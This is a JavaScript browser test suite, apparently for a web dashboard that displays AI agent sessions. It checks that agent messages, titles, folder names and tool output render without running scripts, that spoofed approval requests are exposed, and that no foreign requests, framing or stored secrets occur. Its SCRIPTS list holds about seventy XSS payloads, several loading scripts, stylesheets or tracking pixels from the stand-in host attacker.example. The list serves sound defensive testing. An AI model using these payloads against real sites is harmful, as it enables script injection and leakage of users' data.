// Text that wants to be more than text, requests that pretend, pages that embed.

import assert from 'node:assert/strict';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import http from 'node:http';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { SPOOFS } from '../page/spoofs.mjs';
import { openPage, whenLive } from './browser.mjs';
import { within } from './place.mjs';
import { Proxy } from './proxy.mjs';
import { inPlace } from './uses.mjs';

const CALL = 'globalThis.__hooked++';
const FOREIGN = 'attacker.example';

/** Text that scripts would come of where somebody read it as markup, an address or a template. */
export const SCRIPTS = [
  `<script>${CALL}</script>`, `<script src=//${FOREIGN}/x.js></script>`, `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<body onload=${CALL}>`, `<iframe srcdoc="<script>parent.__hooked++</script>">`,
  `<iframe src=javascript:${CALL}>`, `<a href=javascript:${CALL} autofocus onfocus=${CALL}>x</a>`, `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`, `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`,
  `<object data=javascript:${CALL}>`, `<embed src=javascript:${CALL}>`, `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<math href=javascript:${CALL}>x</math>`, `<style>@import '//${FOREIGN}/x.css'</style>`, `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`, `<base href=//${FOREIGN}/>`, `<form action=//${FOREIGN}/><button autofocus>x</button></form>`,
  `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`, `\`><svg onload=${CALL}>`, `</title><script>${CALL}</script>`, `</textarea><img src=x onerror=${CALL}>`,
  `</pre><img src=x onerror=${CALL}>`, `</style><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `data:text/html,<script>${CALL}</script>`, `vbscript:msgbox(1)`, `[x](javascript:${CALL})`,
  `![x](http://${FOREIGN}/beacon.png)`, `![x](x "onerror=${CALL}")`, `<http://${FOREIGN}/>`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `#{${CALL}}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `\\u003cimg src=x onerror=${CALL}\\u003e`, `%3Cscript%3E${CALL}%3C/script%3E`,
  `<img src=//${FOREIGN}/pixel.gif>`, `<img srcset="//${FOREIGN}/a 1x">`, `<x style="background:url(//${FOREIGN}/b)">`, `<div style=position:fixed;inset:0;z-index:99999>all</div>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<IMG SRC=x ONERROR=${CALL}>`, `<img\tsrc=x\tonerror=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<svg/onload=${CALL}//`,
  `<a xlink:href=javascript:${CALL}>x</a>`, `<animate onbegin=${CALL} attributeName=x dur=1s>`, `<marquee onstart=${CALL}>`, `<select autofocus onfocus=${CALL}>`,
  `\x1b]8;;javascript:${CALL}\x1b\\link\x1b]8;;\x1b\\`, `\x1b[31m<img src=x onerror=${CALL}>\x1b[0m`, `\x1b]0;<script>${CALL}</script>\x07`, '__proto__', 'constructor', '\u202e<script>',
];

/** Says in the page what must not be there. */
async function assertHarmless(page, told) {
  const found = await page.evaluate(() => ({
    hooked: globalThis.__hooked,
    odd: [...document.querySelectorAll('script:not([src="/assets/main.js"]), iframe, object, embed, base, form[action], [onerror], [onload], [onfocus], video, audio, math, marquee, style, link:not([href^="/assets/"]), img:not([src="/assets/icon.svg"]), a[href]:not([href^="#"]):not([href^="/"])')].map((element) => element.outerHTML.slice(0, 200)),
  }));
  assert.deepEqual(found, { hooked: 0, odd: [] });
  assert.deepEqual([told.dialogs, told.errors], [0, []]);
  const own = new URL(page.url()).origin;
  for (const request of told.requests) assert.equal(new URL(request).origin, own, request);
}

async function visit(page, id, tabs) {
  for (const tab of tabs) {
    await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${id}/${tab}`);
    await page.locator(`.detail-pane[data-session="${id}"] .tab[data-tab="${tab}"][aria-current]`).waitFor();
    await page.evaluate(() => new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); }));
  }
}

export const scriptsInText = inPlace(async ({ place, browser }) => {
  assert.ok(SCRIPTS.length >= 60);
  const { page, told } = await openPage(browser, place);
  await whenLive(page);
  const { mkdir, writeFile } = await import('node:fs/promises');
  const file = path.join(place.home, 'scripts.txt');
  await writeFile(file, SCRIPTS.join('\n'));
  const all = [];
  for (const [at, script] of SCRIPTS.entries()) {
    // As a title and an argument, and every eighth as the name of a folder.
    const folder = path.join(place.home, `${at}${script.replaceAll('/', '').replaceAll('\0', '')}`.slice(0, 100));
    const isFolder = at % 8 === 0;
    if (isFolder) await mkdir(folder, { recursive: true });
    all.push(await place.launch(['true', script], { title: script, cwd: isFolder ? folder : place.home }));
  }
  const printed = await place.launch(['sh', '-c', `cat ${file}; cat ${file} >&2`], { title: 'prints all' });
  // The agent says all of it, uses a tool with all of it, and is given all of it back.
  const oneLine = SCRIPTS.map((script) => script.replaceAll('\n', ' ').replaceAll('\x1b', ''));
  const agent = await place.agent(['init', ...oneLine.map((script) => `say ${script}`), `tool cat ${file}`, ...oneLine.slice(0, 20).map((script) => `tool printf %s '${script.replaceAll("'", '')}'`)], { title: 'says all' });
  for (const { id } of [...all, printed, agent]) await place.wait(id);
  await page.locator(`.row[data-session="${agent.id}"] .status[data-status="completed"]`).waitFor();
  await visit(page, agent.id, ['conversation', 'story', 'output', 'stderr']);
  await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${agent.id}/conversation`);
  await page.locator('.message.assistant').filter({ hasText: SCRIPTS[0] }).first().waitFor();
  await page.evaluate(() => { for (const fold of document.querySelectorAll('details')) fold.open = true; });
  await assertHarmless(page, told);
  await visit(page, printed.id, ['output', 'stderr', 'story']);
  await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${printed.id}/output`);
  const shown = page.locator('.lines');
  await shown.filter({ hasText: '<marquee' }).waitFor();
  const text = await shown.textContent();
  for (const script of SCRIPTS.filter((one) => !/[\n\x1b\u202e]/.test(one))) assert.ok(text.includes(script), `shown as it is: ${script}`);
  for (const { id } of all) await visit(page, id, ['story']);
  for (const by of ['folder', 'status', '']) {
    await page.locator('#group').selectOption(by);
    await page.locator('#list').evaluate((list) => { list.scrollTop = list.scrollHeight; });
    await page.evaluate(() => new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); }));
  }
  await assertHarmless(page, told);
  assert.deepEqual(told.violations, [], 'nothing was tried that the policy had to stop');
  return `${SCRIPTS.length} texts in titles, folders, arguments, output, messages and tools: nothing ran`;
});

export const spoofedRequests = inPlace(async ({ place, browser, isQuick }) => {
  const { page, told } = await openPage(browser, place);
  await whenLive(page);
  // An order is one line of text: what cannot be in one is shown by the tests of the parts.
  const fitting = SPOOFS.filter(({ text }) => !/[\n\r\0\ud800-\udfff]/.test(text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, '')) && text.length < 10_000);
  const some = isQuick ? fitting.filter((_, at) => at % 6 === 0) : fitting;
  for (const { name, text, tells } of some) {
    const agent = await place.agent(['init', `ask ${text}`, 'say done'], { title: 'spoof' });
    await place.until(agent.id, 'waiting_input');
    await page.locator(`.row[data-session="${agent.id}"] .status[data-status="waiting_input"]`).waitFor();
    await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${agent.id}`);
    await page.locator('.requests .card').getByRole('button', { name: 'Review' }).click();
    const dialog = page.locator('dialog[open]');
    const points = await dialog.locator('.asked .point, .asked .other').allTextContents();
    assert.ok(points.includes(tells), `${name}: ${JSON.stringify(points)} does not tell ${tells}`);
    const shown = await dialog.locator('.asked').textContent();
    assert.match(shown, /^[^\p{Cf}\p{Zl}\p{Zp}\p{Co}\u3164\u115f\u2800\ufe0f]*$/u, name);
    const { command, digest } = (await place.session(agent.id)).requests[0];
    assert.match(await dialog.locator('.fine').textContent(), new RegExp(`${Buffer.byteLength(command)} bytes`));
    assert.equal(await dialog.locator('.digest').textContent(), digest);
    // An answer to anything else is refused.
    const wrong = `${digest.slice(0, -1)}${digest.endsWith('0') ? '1' : '0'}`;
    await assert.rejects(place.ask('POST', `/v1/sessions/${agent.id}/requests/1`, { approved: true, digest: wrong }), /digest/);
    await dialog.locator('[data-decision=deny]').click();
    await place.wait(agent.id);
  }
  assert.deepEqual(told.errors, []);
  return `${some.length} requests that pretend were shown as what they are`;
});

export const noForeignRequests = inPlace(async ({ place, browser }) => {
  const proxy = await Proxy.open();
  try {
    const { page, told, context } = await openPage(browser, place, { proxy });
    await whenLive(page);
    const agent = await place.agent(['init', `say ![x](http://${FOREIGN}/a.png) <img src=http://${FOREIGN}/b.png> https://${FOREIGN}/c`, 'tool ls'], { title: `http://${FOREIGN}/title` });
    await place.wait(agent.id);
    await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${agent.id}`);
    await page.locator('.message.assistant').first().waitFor();
    await visit(page, agent.id, ['story', 'output', 'conversation']);
    await page.keyboard.press('n');
    await page.keyboard.press('Escape');
    await page.reload();
    await whenLive(page);
    const own = new URL(page.url()).host;
    for (const request of told.requests) assert.equal(new URL(request).host, own, request);
    assert.ok(proxy.wanted.length > 0);
    const foreign = [...new Set(proxy.wanted)].filter((host) => host !== own);
    await context.close();
    // The browser itself asks its makers now and then, whatever is shown: never by our pages.
    assert.deepEqual(foreign.filter((host) => host.includes(FOREIGN)), []);
    return `${told.requests.length} requests, all to ${own.split(':')[0]}`;
  } finally {
    await proxy.close();
  }
});

export const embedding = inPlace(async ({ place, browser }) => {
  const address = (await place.address()).split('#')[0];
  const server = http.createServer((_, answer) => {
    answer.setHeader('content-type', 'text/html');
    answer.end(`<iframe id=f src="${address}"></iframe><object data="${address}"></object><embed src="${address}">`);
  });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  try {
    const { context } = await openPage(browser, place);
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${server.address().port}/`);
    const frames = await within('the frames', () => page.frames().length > 1 && page.frames().slice(1));
    for (const frame of frames) {
      await frame.waitForLoadState().catch(() => {});
      assert.equal(await frame.locator('#connection').count().catch(() => 0), 0, 'the page is in no frame');
    }
    const opened = await page.evaluate((to) => {
      const other = window.open(to);
      return new Promise((resolve) => { setTimeout(() => resolve(other === null || other.closed), 2000); });
    }, address);
    assert.ok(opened, 'whoever opens it has no hold of it');
    return 'in no frame, and held by no opener';
  } finally {
    server.close();
  }
});

/** Neither what was said nor the token is in the profile of the browser. */
export const nothingIsKept = inPlace(async ({ place }) => {
  const { chromium } = createRequire(`${process.env.CANDOR_BROWSER_MODULES}/`)('playwright-core');
  const profile = await mkdtemp(path.join(tmpdir(), 'candor-profile-'));
  const secret = 'what-only-the-transcript-has-7c1f';
  try {
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: process.env.CANDOR_BROWSER_CHROMIUM,
      args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
    });
    const page = context.pages()[0] ?? await context.newPage();
    const agent = await place.agent(['init', `say ${secret}`]);
    await place.wait(agent.id);
    await page.goto(await place.address());
    await whenLive(page);
    await page.evaluate((hash) => { window.location.hash = hash; }, `#/s/${agent.id}`);
    await page.locator('.message.assistant').filter({ hasText: secret }).waitFor();
    const token = await page.evaluate(() => sessionStorage.getItem('candor.page_token'));
    assert.ok(token.length > 20);
    await context.close();
    const found = [];
    let files = 0;
    for (const entry of await readdir(profile, { recursive: true, withFileTypes: true })) {
      if (!entry.isFile()) continue;
      const file = path.join(entry.parentPath ?? entry.path, entry.name);
      const bytes = await readFile(file).catch(() => Buffer.alloc(0));
      files += 1;
      const has = (text) => bytes.includes(text) || bytes.includes(Buffer.from(text, 'utf16le'));
      if (has(secret)) found.push(`${entry.name} has what was said`);
      // The browser keeps a tab's own storage for as long as it may restore the tab.
      if (has(token) && !/Session Storage|Sessions/.test(file)) found.push(`${entry.name} has the token`);
    }
    assert.ok(files > 10);
    assert.deepEqual(found, []);
    return `${files} files of the profile have none of it`;
  } finally {
    await rm(profile, { recursive: true, force: true });
  }
});
